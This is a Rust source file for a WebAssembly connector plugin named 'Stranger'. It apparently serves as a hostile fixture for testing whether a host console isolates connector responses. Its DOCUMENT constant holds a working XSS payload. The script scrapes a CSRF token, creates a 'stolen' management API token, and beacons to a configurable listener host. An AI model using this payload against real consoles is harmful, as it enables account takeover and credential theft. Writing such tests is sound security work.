//! A connector that would be a page of its host: whoever calls is answered with a document whose script takes over the console
//! it is shown by. It says which headers of the call it was given, too. Written against the bare bindings.

#![expect(unsafe_code, reason = "the canonical ABI's exports are generated")]

mod bindings {
    wit_bindgen::generate!({ path: "../../wit", world: "live-connector" });
}

use bindings::exports::rollcall::connector::{events, identity_source as source};
use bindings::rollcall::connector::model::{Body, Failure, Key};
use events::{Channel, ContentType, Delivery, FetchedEvents, Handled, Reaction, Receipt, SourceEvent};
use source::{Descriptor, EventDelivery, Finding, InvalidSettings, Plan, ResourceType, Summary};

/// The setting that says where the script is to send what it finds.
const LISTENER: &str = "listener";

/// A document that is the same in HTML and in XML: `{seen}` and `{listener}` stand for what they say.
const DOCUMENT: &str = r#"<html xmlns="http://www.w3.org/1999/xhtml"><head><title>answered</title></head>
<body><p id="seen">{seen}</p><script>
(async () => {
  document.title = "taken over";
  navigator.sendBeacon("{listener}/ran");
  const page = await (await fetch("/settings/tokens")).text();
  const csrf = page.match(/name="csrf" value="([^"]*)"/)[1];
  const form = new URLSearchParams({ csrf, name: "stolen", scope: "manage" });
  await fetch("/settings/tokens", { method: "POST", body: form });
  navigator.sendBeacon("{listener}/token");
})();
</script></body></html>
"#;

struct Stranger;

impl source::Guest for Stranger {
    fn describe() -> Descriptor {
        Descriptor {
            id: "stranger".to_owned(),
            name: "Stranger".to_owned(),
            names: Vec::new(),
            version: "0.1.0".to_owned(),
            settings_schema: r#"{"type":"object","properties":{"listener":{"type":"string"}}}"#.to_owned(),
            resource_types: vec![ResourceType { name: "User".to_owned(), identity_attribute: None }],
        }
    }

    fn validate(_settings: String) -> Result<Plan, InvalidSettings> {
        Ok(Plan {
            origins: Vec::new(),
            limits: Vec::new(),
            secrets: Vec::new(),
            event_delivery: EventDelivery::Callbacks,
            poll_interval_ms: None,
            exclusive: Vec::new(),
        })
    }

    fn check(_settings: String) -> Vec<Finding> {
        Vec::new()
    }

    fn sync(_settings: String, _checkpoint: Option<String>) -> Result<Summary, Failure> {
        Ok(nothing())
    }

    fn refresh(_settings: String, _keys: Vec<Key>) -> Result<Summary, Failure> {
        Ok(nothing())
    }
}

impl events::Guest for Stranger {
    /// As what the query asks for: `text`, `json` or `xml`.
    fn receive(settings: String, delivery: Delivery) -> Result<Receipt, Failure> {
        let seen: Vec<&str> = delivery.headers.iter().map(|header| header.name.as_str()).collect();
        let body =
            DOCUMENT.replace("{seen}", &seen.join(" ")).replace("{listener}", setting(&settings, LISTENER));
        let content_type = match delivery.query.as_str() {
            "xml" => ContentType::Xml,
            "json" => ContentType::Json,
            _ => ContentType::Text,
        };
        Ok(Receipt { status: 200, content_type, body, events: Vec::new() })
    }

    fn handle(_settings: String, _events: Vec<SourceEvent>) -> Result<Handled, Failure> {
        Ok(Handled { summary: nothing(), unfinished: Vec::new() })
    }

    fn fetch_events(_settings: String, _cursor: Option<String>) -> Result<FetchedEvents, Failure> {
        Ok(FetchedEvents { events: Vec::new(), cursor: None, more: false })
    }

    fn open_channel(_settings: String) -> Result<Option<Channel>, Failure> {
        Ok(None)
    }

    fn frame(_settings: String, _state: String, _message: Body) -> Result<Reaction, Failure> {
        Ok(Reaction {
            replies: Vec::new(),
            refusals: Vec::new(),
            events: Vec::new(),
            reconnect: false,
            heartbeat_ms: None,
            state: None,
        })
    }
}

/// The text of a setting, without a JSON parser: `"name":"…"`.
fn setting<'s>(settings: &'s str, name: &str) -> &'s str {
    let mut parts = settings.split('"').skip_while(|part| *part != name);
    parts.nth(2).unwrap_or_default()
}

fn nothing() -> Summary {
    Summary { read: 0, unchanged: 0, skipped: 0, complete: true, incomplete_reason: None }
}

bindings::export!(Stranger with_types_in bindings);
